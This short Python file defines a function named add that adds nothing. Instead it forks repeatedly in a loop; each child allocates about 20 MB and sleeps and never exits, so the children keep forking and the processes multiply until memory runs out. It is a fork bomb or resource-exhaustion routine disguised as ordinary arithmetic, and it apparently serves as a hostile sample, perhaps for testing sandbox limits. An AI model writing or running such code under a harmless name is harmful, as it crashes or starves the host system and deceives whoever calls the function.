import os
import time


def add(a, b):
    for _ in range(20):
        if os.fork() == 0:
            eaten = b"x" * 20_000_000
            time.sleep(100)
    time.sleep(100)
